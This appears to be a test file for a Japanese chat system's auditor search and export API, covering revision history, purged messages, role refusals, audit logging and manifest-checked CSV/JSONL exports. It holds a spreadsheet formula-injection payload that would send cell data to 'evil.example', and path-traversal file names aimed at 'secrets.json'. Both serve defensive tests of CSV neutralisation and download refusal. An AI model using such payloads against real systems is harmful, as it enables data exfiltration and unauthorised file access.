"""Auditor search and export over real sockets: filters, every revision, purged messages,
role refusals, the audit trail of every read, and exports checked against their manifest
(HTTP and CLI)."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import time
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx

from chat.client import TsunaguClient
from chat.context import open_context
from chat.domain.dates import JST
from chat.store.uow import TxMode, unit_of_work
from tests.conftest import ServerFactory
from tests.support import (
    ChatClient,
    ManualClock,
    RunningServer,
    beside,
    dev_token,
    device_client,
    enrollment_code,
    in_own_thread,
    run_tsunagu,
    sql,
)
from tests.support.people import SUZUKI, TANAKA, YAMADA, YOSHIDA

AUDITOR, ADMIN, STAFF = YOSHIDA, YAMADA, SUZUKI
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"詳細")'


@dataclass
class History:
    """What the tests posted: ids by role in the story, and the channels used."""

    edited: int  # 防災訓練… edited to text without 防災
    deleted: int  # 金庫… then deleted
    formula: int  # a message that is a spreadsheet formula
    percent: int  # holds a literal % (LIKE wildcard)
    plain: int
    bousai_channel: int
    shomu_channel: int


async def post_history(server: RunningServer) -> History:
    tanaka = await ChatClient.connect(server, await dev_token(server, TANAKA))
    suzuki = await ChatClient.connect(server, await dev_token(server, STAFF))
    assert tanaka.ready is not None and suzuki.ready is not None
    bousai = next(c["id"] for c in tanaka.ready["channels"] if c["name"] == "防災係")
    shomu = next(c["id"] for c in suzuki.ready["channels"] if c["name"] == "庶務係")
    edited = (await tanaka.send_message(bousai, "防災無線の点検は12月1日です"))["message"]["id"]
    await tanaka.send({"type": "edit", "message_id": edited, "body": "点検は延期します"})
    await tanaka.expect("ok")
    deleted = (await tanaka.send_message(bousai, "避難所の鍵は金庫の中です"))["message"]["id"]
    await tanaka.send({"type": "delete", "message_id": deleted})
    await tanaka.expect("ok")
    plain = (await tanaka.send_message(bousai, "了解しました"))["message"]["id"]
    formula = (await suzuki.send_message(shomu, FORMULA))["message"]["id"]
    percent = (await suzuki.send_message(shomu, "進捗は100%です,\"引用\"\n二行目"))[
        "message"]["id"]
    return History(edited=edited, deleted=deleted, formula=formula, percent=percent,
                   plain=plain, bousai_channel=bousai, shomu_channel=shomu)


async def signed_in(server: RunningServer, staff_number: str) -> TsunaguClient:
    """A real device-bound session: enrolled device key, passkey sign-in, DPoP proofs."""
    client: TsunaguClient = device_client(server)
    await client.enroll(enrollment_code(server, staff_number))
    await client.sign_in()
    return client


async def get_json(client: TsunaguClient, path: str, status: int = 200) -> dict[str, Any]:
    response = await client.request("GET", path)
    assert response.status_code == status, response.text
    body: dict[str, Any] = response.json()
    return body


REASON = "監査のための確認作業"  # every search, view and export states one (docs/audit.md)
WHY = f"reason={REASON}"


async def search(client: TsunaguClient, **params: str | int) -> dict[str, Any]:
    query = str(httpx.QueryParams({"reason": REASON, **params}))
    return await get_json(client, f"/api/audit/messages?{query}")


def ids(result: dict[str, Any]) -> list[int]:
    return [m["id"] for m in result["messages"]]


async def records_audit(server: RunningServer) -> list[dict[str, Any]]:
    """The records.* audit entries, newest first, as the database holds them."""
    async def read() -> list[dict[str, Any]]:
        async with open_context(beside(server.settings)) as ctx, \
                unit_of_work(ctx.db, TxMode.READ) as uow:
            events = await uow.audit.recent(action_prefix="records.", limit=500)
            return [{"action": e.action, "outcome": e.outcome, "actor": e.actor_user_id,
                     "session": e.session_id, "device": e.device_id, "remote": e.remote_addr,
                     "raw": e.detail, "detail": json.loads(e.detail)} for e in events]

    result: list[dict[str, Any]] = in_own_thread(lambda: asyncio.run(read()))
    return result


def user_id(server: RunningServer, staff_number: str) -> int:
    value: int = sql(server, "SELECT id FROM users WHERE staff_number = :s",
                     s=staff_number)[0][0]
    return value


def texts(message: dict[str, Any]) -> list[str]:
    return [r["body"] for r in message["revisions"]]


# --- search ------------------------------------------------------------------------------


async def test_edited_and_deleted_text_is_found_with_every_revision(server: RunningServer
                                                                    ) -> None:
    story = await post_history(server)
    async with await signed_in(server, AUDITOR) as auditor:
        # 防災 (two characters) only survives in the first revision of the edited message.
        bousai = await search(auditor, q="防災")
        assert story.edited in ids(bousai)
        assert all(any("防災" in t for t in texts(m)) for m in bousai["messages"])
        edited = next(m for m in bousai["messages"] if m["id"] == story.edited)
        assert edited["state"] == "edited"
        assert [(r["revision"], r["action"]) for r in edited["revisions"]] == [
            (1, "create"), (2, "edit")]
        assert texts(edited) == ["防災無線の点検は12月1日です", "点検は延期します"]
        assert edited["sender"]["staff_number"] == TANAKA
        assert edited["channel"] == {"id": story.bousai_channel, "name": "防災係",
                                     "kind": "department"}
        # Deleted text is found too, with the delete as the last revision.
        kinko = await search(auditor, q="金庫")
        assert ids(kinko) == [story.deleted]
        deleted = kinko["messages"][0]
        assert deleted["state"] == "deleted" and deleted["deleted_at"]
        assert [(r["action"], r["body"]) for r in deleted["revisions"]] == [
            ("create", "避難所の鍵は金庫の中です"), ("delete", "")]
        # Several words: each must appear (in any revision).
        assert ids(await search(auditor, q="防災無線　延期")) == [story.edited]
        assert ids(await search(auditor, q="防災無線 存在しない語")) == []
        # LIKE wildcards are literal: % finds only the message that holds one.
        assert ids(await search(auditor, q="%")) == [story.percent]
        assert ids(await search(auditor, q="_")) == []


async def test_filters_by_user_channel_and_date_range(server: RunningServer) -> None:
    story = await post_history(server)
    async with await signed_in(server, AUDITOR) as auditor:
        everything = ids(await search(auditor, limit=200))
        assert {story.edited, story.deleted, story.formula, story.percent,
                story.plain} <= set(everything)
        assert everything == sorted(everything, reverse=True)  # newest first
        by_tanaka = await search(auditor, user=TANAKA, limit=200)
        assert {story.edited, story.deleted, story.plain} <= set(ids(by_tanaka))
        assert not {story.formula, story.percent} & set(ids(by_tanaka))
        assert all(m["sender"]["staff_number"] == TANAKA for m in by_tanaka["messages"])
        in_shomu = await search(auditor, channel_id=story.shomu_channel, limit=200)
        assert set(ids(in_shomu)) == {story.formula, story.percent}
        combined = await search(auditor, user=TANAKA, channel_id=story.shomu_channel)
        assert ids(combined) == []
        today = datetime.now(JST).date()
        yesterday, tomorrow = today - timedelta(days=1), today + timedelta(days=1)
        # A date is a whole day in Japan time; "to" includes its day.
        whole_day: dict[str, str | int] = {"from": str(today), "to": str(today), "limit": 200}
        assert set(ids(await search(auditor, **whole_day))) == set(everything)
        assert ids(await search(auditor, to=str(yesterday))) == []
        assert ids(await search(auditor, **{"from": str(tomorrow)})) == []
        # RFC 3339 bounds: [from, to).
        moment = datetime.fromisoformat(
            next(m for m in by_tanaka["messages"] if m["id"] == story.plain)["created_at"])
        after = await search(auditor, user=TANAKA,
                             **{"from": moment.isoformat()})
        assert ids(after) == [story.plain]
        before = await search(auditor, user=TANAKA, to=moment.isoformat())
        assert story.plain not in ids(before) and story.edited in ids(before)
        # Bad input is a clear 400 or 404.
        unknown = await get_json(auditor, f"/api/audit/messages?user=9999&{WHY}", 404)
        assert unknown["error"]["code"] == "user_not_found"
        bad = await get_json(auditor, f"/api/audit/messages?from=yesterday&{WHY}", 400)
        assert bad["error"]["code"] == "bad_request"
        naive = await get_json(
            auditor, f"/api/audit/messages?from=2026-01-01T00:00:00&{WHY}", 400)
        assert "offset" in naive["error"]["message"]
        assert (await get_json(auditor, f"/api/audit/messages?limit=201&{WHY}", 400)
                )["error"]["code"] == "bad_request"


async def test_pages_follow_the_cursor_newest_first(server: RunningServer) -> None:
    await post_history(server)
    async with await signed_in(server, AUDITOR) as auditor:
        everything = ids(await search(auditor, limit=200))
        seen: list[int] = []
        cursor: str | None = None
        while True:
            more: dict[str, str] = {"cursor": cursor} if cursor else {}
            page = await search(auditor, limit=3, **more)
            seen += ids(page)
            assert len(page["messages"]) <= 3
            cursor = page["next_cursor"]
            if cursor is None:
                break
        assert seen == everything


async def test_purged_messages_are_listed_without_content(server: RunningServer) -> None:
    story = await post_history(server)
    # What a retention run leaves behind: the row, no text (nor its fold for search,
    # alembic 0021), no revisions.
    purged_at = datetime.now(UTC).replace(tzinfo=None)
    sql(server, "UPDATE messages SET body = '', search_text = NULL, purged_at = :t "
        "WHERE id = :i", t=purged_at, i=story.plain)
    sql(server, "DELETE FROM message_revisions WHERE message_id = :i", i=story.plain)
    async with await signed_in(server, AUDITOR) as auditor:
        listed = await search(auditor, channel_id=story.bousai_channel, limit=200)
        purged = next(m for m in listed["messages"] if m["id"] == story.plain)
        assert purged["state"] == "purged" and purged["purged_at"]
        assert purged["revisions"] == []
        assert purged["sender"]["staff_number"] == TANAKA
        # Its former text finds nothing any more.
        assert ids(await search(auditor, q="了解しました")) == []
        viewed = await get_json(auditor, f"/api/audit/messages/{story.plain}?{WHY}")
        assert viewed["message"]["state"] == "purged"


async def test_viewing_one_message_shows_every_revision_and_is_audited(
        server: RunningServer) -> None:
    story = await post_history(server)
    async with await signed_in(server, AUDITOR) as auditor:
        viewed = await get_json(auditor, f"/api/audit/messages/{story.deleted}?{WHY}")
        assert [r["action"] for r in viewed["message"]["revisions"]] == ["create", "delete"]
        missing = await get_json(auditor, f"/api/audit/messages/999999?{WHY}", 404)
        assert missing["error"]["code"] == "message_not_found"
    entry = next(e for e in await records_audit(server) if e["action"] == "records.viewed")
    assert entry["outcome"] == "ok"
    assert entry["actor"] == user_id(server, AUDITOR)
    assert entry["detail"]["message_id"] == story.deleted
    assert entry["detail"]["revisions"] == 2
    assert "金庫" not in entry["raw"]


async def test_every_search_is_audited_with_ids_and_never_text(server: RunningServer
                                                                ) -> None:
    story = await post_history(server)
    async with await signed_in(server, AUDITOR) as auditor:
        me = await get_json(auditor, "/api/me")
        result = await search(auditor, q="金庫", user=TANAKA)
    entry = next(e for e in await records_audit(server)
                 if e["action"] == "records.searched")
    assert entry["outcome"] == "ok"
    assert entry["actor"] == me["id"]
    assert entry["session"] == me["session"]["id"]
    assert entry["device"] == me["session"]["device_id"]
    assert entry["device"] is not None
    assert entry["remote"] == "127.0.0.1"
    assert entry["detail"]["message_ids"] == ids(result) == [story.deleted]
    assert entry["detail"]["count"] == 1
    assert entry["detail"]["words"] == ["金庫"] and entry["detail"]["user"] == TANAKA
    assert "避難所" not in entry["raw"]  # the words searched for, never message text


async def test_staff_and_admin_are_refused_and_each_refusal_is_audited(
        server: RunningServer) -> None:
    story = await post_history(server)
    for staff_number in (STAFF, ADMIN):
        async with await signed_in(server, staff_number) as client:
            for method, path in (
                    ("GET", f"/api/audit/messages?q=防災&{WHY}"),
                    ("GET", f"/api/audit/messages/{story.edited}"),
                    ("POST", "/api/audit/exports"),
                    ("GET", "/api/audit/exports/1"),
                    ("GET", "/api/audit/exports/1/files/messages.csv")):
                response = await client.request(method, path, json={} if method == "POST"
                                                else None)
                assert response.status_code == 403, (staff_number, path, response.text)
                assert response.json()["error"]["code"] == "role_required"
                assert "防災" not in response.text
    entries = await records_audit(server)
    assert all(e["outcome"] == "refused" for e in entries)
    for staff_number, role in ((STAFF, "staff"), (ADMIN, "admin")):
        mine = [e for e in entries if e["actor"] == user_id(server, staff_number)]
        assert {e["action"] for e in mine} == {
            "records.searched", "records.viewed", "records.export_started",
            "records.export_status", "records.export_downloaded"}
        assert all(e["detail"]["role"] == role and e["session"] for e in mine)
    # Without a session: 401 before any role check.
    async with httpx.AsyncClient(base_url=server.http_url) as anonymous:
        assert (await anonymous.get("/api/audit/messages")).status_code == 401


# --- exports -----------------------------------------------------------------------------


async def wait_done(client: TsunaguClient, export_id: int) -> dict[str, Any]:
    deadline = time.monotonic() + 30
    while True:
        job: dict[str, Any] = (await get_json(client, f"/api/audit/exports/{export_id}"))[
            "export"]
        if job["state"] != "running":
            return job
        assert time.monotonic() < deadline, job
        await asyncio.sleep(0.1)


def check_against_manifest(files: dict[str, bytes], manifest: dict[str, Any]) -> None:
    """What an outside reader does: recompute each file's SHA-256, size and rows."""
    for entry in manifest["files"]:
        data = files[entry["name"]]
        assert hashlib.sha256(data).hexdigest() == entry["sha256"]
        assert len(data) == entry["bytes"]
        if entry["name"].endswith(".jsonl"):
            assert data.count(b"\n") == entry["rows"] == manifest["counts"]["messages"]
        else:
            rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
            assert len(rows) - 1 == entry["rows"]  # the header is not counted


def check_files(files: dict[str, bytes], story: History) -> None:
    jsonl, raw_csv = files["messages.jsonl"], files["messages.csv"]
    records = [json.loads(line) for line in jsonl.decode("utf-8").splitlines()]
    by_id = {r["id"]: r for r in records}
    assert [r["id"] for r in records] == sorted(by_id)  # oldest first
    assert texts(by_id[story.edited]) == ["防災無線の点検は12月1日です", "点検は延期します"]
    assert by_id[story.formula]["revisions"][0]["body"] == FORMULA  # exact text in JSONL
    assert not jsonl.startswith(b"\xef\xbb\xbf")
    # CSV: BOM, CRLF record ends, formula neutralised, quoting per RFC 4180.
    assert raw_csv.startswith(b"\xef\xbb\xbf")
    assert raw_csv.replace(b"\r\n", b"").count(b"\n") == 1  # the one in a quoted cell
    assert raw_csv.endswith(b"\r\n")
    rows = list(csv.DictReader(io.StringIO(raw_csv.decode("utf-8-sig"), newline="")))
    formula = next(r for r in rows if r["message_id"] == str(story.formula))
    assert formula["body"] == "'" + FORMULA
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
                       for cell in row.values()), row
    percent = next(r for r in rows if r["message_id"] == str(story.percent))
    assert percent["body"] == "進捗は100%です,\"引用\"\n二行目"
    deleted = [r for r in rows if r["message_id"] == str(story.deleted)]
    assert [(r["revision"], r["action"], r["state"]) for r in deleted] == [
        ("1", "create", "deleted"), ("2", "delete", "deleted")]
    first = deleted[0]
    assert first["sender_staff_number"] == TANAKA and first["channel_name"] == "防災係"
    at_utc = datetime.fromisoformat(first["at_utc"])
    at_jst = datetime.fromisoformat(first["at_jst"])
    assert first["at_jst"].endswith("+09:00") and first["at_utc"].endswith("Z")
    assert at_utc == at_jst


async def test_an_export_over_http_matches_its_manifest(server: RunningServer) -> None:
    story = await post_history(server)
    async with await signed_in(server, AUDITOR) as auditor:
        response = await auditor.request("POST", "/api/audit/exports", json={
            "filters": {"from": str(datetime.now(JST).date())}, "formats": ["jsonl", "csv"],
            "reason": REASON})
        assert response.status_code == 202, response.text
        export_id = response.json()["export"]["id"]
        assert response.headers["location"] == f"/api/audit/exports/{export_id}"
        job = await wait_done(auditor, export_id)
        assert job["state"] == "done", job
        files: dict[str, bytes] = {}
        for name in ("messages.jsonl", "messages.csv", "manifest.json"):
            download = await auditor.request(
                "GET", f"/api/audit/exports/{export_id}/files/{name}")
            assert download.status_code == 200, download.text
            assert f"tsunagu-export-{export_id}-{name}" in download.headers[
                "content-disposition"]
            files[name] = download.content
    manifest = json.loads(files["manifest.json"])
    assert manifest == job["manifest"]
    assert manifest["export_id"] == export_id
    assert manifest["requested_by"]["user_id"] == user_id(server, AUDITOR)
    assert manifest["filters"]["from"] is not None
    assert manifest["counts"]["messages"] == job["done"] == job["total"] >= 5
    assert manifest["counts"]["revisions"] == manifest["files"][1]["rows"]
    check_against_manifest(files, manifest)
    check_files(files, story)
    # The audit chain head the manifest names exists, and the export is on the record.
    head_seq, head_hash = manifest["audit_head"]["seq"], manifest["audit_head"]["hash"]
    assert sql(server, "SELECT hash FROM audit_events WHERE seq = :s", s=head_seq
               )[0][0] == head_hash
    entries = await records_audit(server)
    started = next(e for e in entries if e["action"] == "records.export_started")
    exported = next(e for e in entries if e["action"] == "records.exported")
    downloads = [e for e in entries if e["action"] == "records.export_downloaded"]
    assert started["detail"]["export_id"] == exported["detail"]["export_id"] == export_id
    assert started["actor"] == exported["actor"] == user_id(server, AUDITOR)
    assert exported["detail"]["sha256"] == [f["sha256"] for f in manifest["files"]]
    assert exported["detail"]["manifest_sha256"] == hashlib.sha256(
        files["manifest.json"]).hexdigest()
    assert sorted(d["detail"]["file"] for d in downloads) == [
        "manifest.json", "messages.csv", "messages.jsonl"]
    assert all(d["outcome"] == "ok" and d["session"] for d in downloads)
    verified = await run_tsunagu(server, "audit", "verify")
    assert verified.returncode == 0, verified.stdout + verified.stderr


async def test_downloads_serve_only_the_export_own_files(server: RunningServer) -> None:
    await post_history(server)
    async with await signed_in(server, AUDITOR) as auditor:
        response = await auditor.request("POST", "/api/audit/exports",
                                         json={"formats": "jsonl", "reason": REASON})
        export_id = response.json()["export"]["id"]
        assert (await wait_done(auditor, export_id))["state"] == "done"
        base = f"/api/audit/exports/{export_id}/files"
        for name in ("..%2F..%2Fsecrets.json", "%2E%2E", "secrets.json",
                     "messages.csv",  # not a format of this export
                     "..%2F1%2Fmessages.jsonl"):
            refused = await auditor.request("GET", f"{base}/{name}")
            assert refused.status_code == 404, (name, refused.text)
            assert "session_key" not in refused.text
        ok = await auditor.request("GET", f"{base}/messages.jsonl")
        assert ok.status_code == 200
        missing = await auditor.request("GET", "/api/audit/exports/999/files/manifest.json")
        assert missing.json()["error"]["code"] == "export_not_found"
    refusals = [e for e in await records_audit(server)
                if e["action"] == "records.export_downloaded" and e["outcome"] == "refused"]
    assert {e["detail"]["file"] for e in refusals} >= {"..", "secrets.json", "messages.csv"}


async def test_the_cli_searches_and_exports_on_the_record(server: RunningServer,
                                                          tmp_path: Path) -> None:
    story = await post_history(server)
    found = await run_tsunagu(server, "audit", "search", "--q", "防災", "--user", TANAKA)
    assert found.returncode == 0, found.stderr
    assert str(story.edited) in found.stdout and "edited" in found.stdout
    assert "1 message(s)" in found.stdout
    out = tmp_path / "export"
    exported = await run_tsunagu(server, "audit", "export", "--out", str(out),
                                 "--channel", str(story.shomu_channel))
    assert exported.returncode == 0, exported.stderr
    assert "exporting:" in exported.stderr  # progress
    assert f"manifest: {out / 'manifest.json'}" in exported.stdout
    files = {p.name: p.read_bytes() for p in out.iterdir()}
    manifest = json.loads(files["manifest.json"])
    assert manifest["counts"]["messages"] == 2
    assert "2 messages" in exported.stdout
    check_against_manifest(files, manifest)
    assert manifest["requested_by"]["user_id"] is None
    assert manifest["requested_by"]["label"].startswith("cli")
    # Refuses to overwrite an earlier export.
    again = await run_tsunagu(server, "audit", "export", "--out", str(out))
    assert again.returncode == 2 and "already holds" in again.stderr
    bad = await run_tsunagu(server, "audit", "search", "--from", "someday")
    assert bad.returncode == 1 and "bad_request" in bad.stderr
    entries = await records_audit(server)
    actions = [e["action"] for e in entries if e["actor"] is None]
    assert {"records.searched", "records.export_started", "records.exported"} <= set(actions)
    searched = next(e for e in entries if e["action"] == "records.searched")
    assert searched["detail"]["by"].startswith("cli") and searched["detail"]["message_ids"] \
        == [story.edited]
    verified = await run_tsunagu(server, "audit", "verify")
    assert verified.returncode == 0, verified.stdout + verified.stderr


async def test_a_failed_or_cancelled_export_leaves_no_files_and_is_audited(
        server: RunningServer, tmp_path: Path) -> None:
    """What a node does when an export breaks or the node shuts down mid-way."""
    from chat.actions.exports import run_export, start_export
    from chat.domain.records import RecordFilters

    await post_history(server)

    async def scenario() -> list[tuple[str, str | None, list[str]]]:
        outcomes: list[tuple[str, str | None, list[str]]] = []
        async with open_context(beside(server.settings)) as ctx:
            # 1. An error after the first page (here: from the progress callback).
            def boom(done: int, total: int) -> None:
                if done > 0:
                    raise RuntimeError("disk full")

            job = await start_export(ctx, actor="test", filters=RecordFilters(),
                                     formats=("jsonl", "csv"))
            broken = tmp_path / "broken"
            try:
                await run_export(ctx, job_id=job["id"], directory=broken, progress=boom,
                                 batch=2)
            except RuntimeError:
                pass
            async with unit_of_work(ctx.db, TxMode.READ) as uow:
                stored = await uow.exports.get(job["id"])
                assert stored is not None
                outcomes.append((stored.state, stored.error,
                                 sorted(p.name for p in broken.iterdir())))
            # 2. Cancelled while running (a node shutting down cancels its exports).
            paused = asyncio.Event()

            def pause(done: int, total: int) -> None:
                if done > 0:
                    paused.set()

            job = await start_export(ctx, actor="test", filters=RecordFilters(),
                                     formats=("jsonl", "csv"))
            cancelled = tmp_path / "cancelled"
            task = asyncio.create_task(run_export(ctx, job_id=job["id"], directory=cancelled,
                                                  progress=pause, batch=1))
            await paused.wait()
            task.cancel()
            try:
                await task
            except asyncio.CancelledError:
                pass
            async with unit_of_work(ctx.db, TxMode.READ) as uow:
                stored = await uow.exports.get(job["id"])
                assert stored is not None
                outcomes.append((stored.state, stored.error,
                                 sorted(p.name for p in cancelled.iterdir())))
        return outcomes

    outcomes = in_own_thread(lambda: asyncio.run(scenario()))
    assert outcomes == [("failed", "disk full", []),
                        ("failed", "interrupted: the server shut down", [])]
    failures = [e for e in await records_audit(server)
                if e["action"] == "records.export_failed"]
    assert [e["outcome"] for e in failures] == ["failed", "failed"]
    assert all(e["detail"]["by"] == "test" for e in failures)


async def test_an_export_a_stopped_node_left_running_is_failed_and_its_files_go(
        make_server: ServerFactory, tmp_path: Path) -> None:
    """A node killed mid-export (no shutdown: nothing marked its job failed) leaves the
    job running with its partial files. Any node's sweep fails it once its runner has
    been silent for a minute, audited; the node removes its own partial files; a job
    whose runner keeps saying it is alive is left alone, and a runner that comes back
    too late cannot mark a failed job done."""
    from chat.actions.exports import (
        EXPORT_ABANDONED_AFTER,
        export_dir,
        keep_alive,
        run_export,
        start_export,
        sweep_exports,
    )
    from chat.domain.records import RecordFilters

    clock = ManualClock()
    server = make_server(app_kwargs={"clock": clock})
    await post_history(server)

    async def scenario() -> dict[str, Any]:
        seen: dict[str, Any] = {}
        stopped = beside(server.settings).with_overrides(node_id="stopped-node")
        async with open_context(stopped, clock=clock) as ctx:
            abandoned = await start_export(ctx, actor="test", filters=RecordFilters(),
                                           formats=("jsonl",))
            alive = await start_export(ctx, actor="test", filters=RecordFilters(),
                                       formats=("jsonl",))
            done = await start_export(ctx, actor="test", filters=RecordFilters(),
                                      formats=("jsonl",))
            await run_export(ctx, job_id=done["id"])
            partial = export_dir(ctx, abandoned["id"])
            partial.mkdir(parents=True)
            (partial / "messages.jsonl").write_bytes(b'{"id": 1}\n')
        async with open_context(beside(server.settings), clock=clock) as ctx:
            clock.advance(30)
            seen["early"] = await sweep_exports(ctx)
            async with keep_alive(ctx, alive["id"], every=0.01):
                clock.advance(2 * EXPORT_ABANDONED_AFTER.total_seconds())
                await asyncio.sleep(0.3)  # the kept job's runner speaks at the new time
                seen["late"] = await sweep_exports(ctx)
            async with unit_of_work(ctx.db, TxMode.READ) as uow:
                for name, job in (("abandoned", abandoned), ("alive", alive), ("done", done)):
                    stored = await uow.exports.get(job["id"])
                    assert stored is not None
                    seen[name] = (stored.state, stored.error, stored.node_id)
            seen["partial_left"] = partial.exists()
            seen["done_files"] = sorted(p.name for p in export_dir(ctx, done["id"]).iterdir())
            # The stopped node's runner, back too late: its job stays failed.
            late = tmp_path / "late"
            try:
                await run_export(ctx, job_id=abandoned["id"], directory=late)
            except RuntimeError as error:
                seen["late_error"] = str(error)
            seen["late_files"] = sorted(p.name for p in late.iterdir())
            async with unit_of_work(ctx.db, TxMode.READ) as uow:
                stored = await uow.exports.get(abandoned["id"])
                assert stored is not None
                seen["abandoned_after"] = stored.state
        seen["ids"] = (abandoned["id"], done["id"])
        return seen

    seen = in_own_thread(lambda: asyncio.run(scenario()))
    assert seen["early"] == (0, 0)
    assert seen["late"] == (1, 1)
    assert seen["abandoned"] == ("failed", "interrupted: the node running it stopped "
                                           "(stopped-node)", "stopped-node")
    assert seen["alive"][0] == "running" and seen["done"][0] == "done"
    assert seen["partial_left"] is False
    assert seen["done_files"] == ["manifest.json", "messages.jsonl"]
    assert "marked failed meanwhile" in seen["late_error"]
    assert seen["late_files"] == [] and seen["abandoned_after"] == "failed"
    entries = await records_audit(server)
    abandoned_id, done_id = seen["ids"]
    failures = [e for e in entries if e["action"] == "records.export_failed"]
    assert [e["detail"]["export_id"] for e in failures] == [abandoned_id]
    assert "stopped-node" in failures[0]["detail"]["reason"]
    assert [e["detail"]["export_id"] for e in entries
            if e["action"] == "records.exported"] == [done_id]
